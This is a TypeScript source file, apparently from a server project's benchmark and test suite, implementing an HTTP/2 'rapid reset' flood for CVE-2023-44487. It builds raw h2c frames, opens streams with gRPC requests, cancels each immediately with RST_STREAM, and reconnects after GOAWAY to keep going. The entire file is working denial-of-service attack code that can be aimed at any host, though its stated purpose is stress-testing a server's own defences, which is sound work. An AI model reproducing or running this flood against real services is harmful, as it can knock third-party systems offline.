/**
 * An HTTP/2 rapid-reset client (CVE-2023-44487), as an attacker writes it: raw h2c frames on one
 * TCP connection, each stream's HEADERS (and a gRPC body) followed at once by RST_STREAM(CANCEL),
 * as fast as the socket takes them, never waiting for an answer. A GOAWAY or a closed connection
 * makes it connect again and go on. Used by the benchmark (BENCH_ONLY=rapid-reset) and by the
 * transport tests (a fixed number of streams, no clock).
 */
import net from "node:net";

const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "latin1");
const FRAME = { DATA: 0, HEADERS: 1, RST_STREAM: 3, SETTINGS: 4, PING: 6, GOAWAY: 7 } as const;
const FLAG = { END_STREAM: 0x1, ACK: 0x1, END_HEADERS: 0x4 } as const;
const CANCEL = 0x8;

function frame(type: number, flags: number, streamId: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(streamId & 0x7fffffff, 5);
  return Buffer.concat([head, payload]);
}

/** HPACK integer with an n-bit prefix. */
function hpackInt(value: number, prefixBits: number, firstByte: number): number[] {
  const max = (1 << prefixBits) - 1;
  if (value < max) return [firstByte | value];
  const out = [firstByte | max];
  value -= max;
  while (value >= 128) {
    out.push((value % 128) + 128);
    value = Math.floor(value / 128);
  }
  out.push(value);
  return out;
}

/** A header block of literal fields without indexing (no Huffman): the same bytes on every stream. */
export function headerBlock(headers: [string, string][]): Buffer {
  const parts: number[] = [];
  for (const [name, value] of headers) {
    const n = Buffer.from(name, "latin1");
    const v = Buffer.from(value, "latin1");
    parts.push(0x00, ...hpackInt(n.length, 7, 0), ...n, ...hpackInt(v.length, 7, 0), ...v);
  }
  return Buffer.from(parts);
}

/** The gRPC call each stream starts. */
export interface FloodTarget {
  port: number;
  host?: string;
  path: string;
  /** Extra request headers (authorization, …). */
  headers?: [string, string][];
  /** The request body (a gRPC envelope), sent before the reset; none: only HEADERS. */
  body?: Uint8Array;
  /** The body ends the stream (END_STREAM on its DATA frame), as a complete request would. */
  endStream?: boolean;
  /** RST_STREAM's error code: CANCEL (8) unless said; null: no reset (the streams stay open). */
  resetCode?: number | null;
}

export interface FloodResult {
  /** Streams opened and reset. */
  streams: number;
  /** GOAWAY frames received. */
  goaways: number;
  /** TCP connections used (1 + reconnections). */
  connections: number;
  /** Error code (HTTP/2) of the last GOAWAY, if any. */
  lastGoawayCode?: number;
  /** Last-Stream-ID of the last GOAWAY: the highest stream the server took on that connection. */
  lastGoawayStreamId?: number;
}

/**
 * Floods until `until()` says stop (checked between batches) or `maxStreams` are sent. With
 * `stopAtGoaway`, it ends at the first GOAWAY instead of connecting again.
 */
export async function rapidResetFlood(
  target: FloodTarget,
  opts: { until?: () => boolean; maxStreams?: number; stopAtGoaway?: boolean; batch?: number },
): Promise<FloodResult> {
  const result: FloodResult = { streams: 0, goaways: 0, connections: 0 };
  const block = headerBlock([
    [":method", "POST"],
    [":scheme", "http"],
    [":path", target.path],
    [":authority", `${target.host ?? "127.0.0.1"}:${target.port}`],
    ["content-type", "application/grpc"],
    ["te", "trailers"],
    ...(target.headers ?? []),
  ]);
  const rst = Buffer.alloc(4);
  rst.writeUInt32BE(target.resetCode ?? CANCEL);
  const body = target.body ? Buffer.from(target.body) : undefined;
  const batch = opts.batch ?? 100;
  const maxStreams = opts.maxStreams ?? Infinity;
  const more = () => result.streams < maxStreams && !(opts.until?.() ?? false);

  while (more()) {
    result.connections++;
    const socket = net.connect(target.port, target.host ?? "127.0.0.1");
    socket.setNoDelay(true);
    let ended = false;
    let wake: (() => void) | undefined;
    const stop = () => {
      ended = true;
      wake?.();
    };
    let pending: Buffer = Buffer.alloc(0);
    socket.on("data", (d: Buffer) => {
      pending = pending.length ? Buffer.concat([pending, d]) : d;
      while (pending.length >= 9) {
        const len = pending.readUIntBE(0, 3);
        if (pending.length < 9 + len) break;
        const type = pending[3];
        const flags = pending[4];
        if (type === FRAME.SETTINGS && !(flags & FLAG.ACK)) socket.write(frame(FRAME.SETTINGS, FLAG.ACK, 0, Buffer.alloc(0)));
        if (type === FRAME.GOAWAY) {
          result.goaways++;
          result.lastGoawayStreamId = pending.readUInt32BE(9) & 0x7fffffff;
          result.lastGoawayCode = pending.readUInt32BE(13);
          stop();
        }
        pending = pending.subarray(9 + len);
      }
    });
    socket.on("error", stop);
    socket.on("close", stop);
    await new Promise<void>((resolve, reject) => {
      socket.once("connect", resolve);
      socket.once("error", reject);
    }).catch(() => undefined);
    if (ended) {
      socket.destroy();
      await new Promise((r) => setTimeout(r, 10));
      continue;
    }
    socket.write(Buffer.concat([PREFACE, frame(FRAME.SETTINGS, 0, 0, Buffer.alloc(0))]));
    let id = 1;
    while (!ended && more() && id < 0x7fff0000) {
      const frames: Buffer[] = [];
      for (let i = 0; i < batch && result.streams < maxStreams; i++, id += 2, result.streams++) {
        frames.push(frame(FRAME.HEADERS, FLAG.END_HEADERS, id, block));
        if (body) frames.push(frame(FRAME.DATA, target.endStream ? FLAG.END_STREAM : 0, id, body));
        if (target.resetCode !== null) frames.push(frame(FRAME.RST_STREAM, 0, id, rst));
      }
      if (!socket.write(Buffer.concat(frames))) {
        await new Promise<void>((resolve) => {
          wake = resolve;
          socket.once("drain", resolve);
        });
        wake = undefined;
      } else {
        // Let the socket's events (a GOAWAY) in between batches.
        await new Promise<void>((r) => setImmediate(r));
      }
    }
    if (opts.stopAtGoaway && result.goaways > 0) {
      socket.destroy();
      break;
    }
    socket.destroy();
  }
  return result;
}
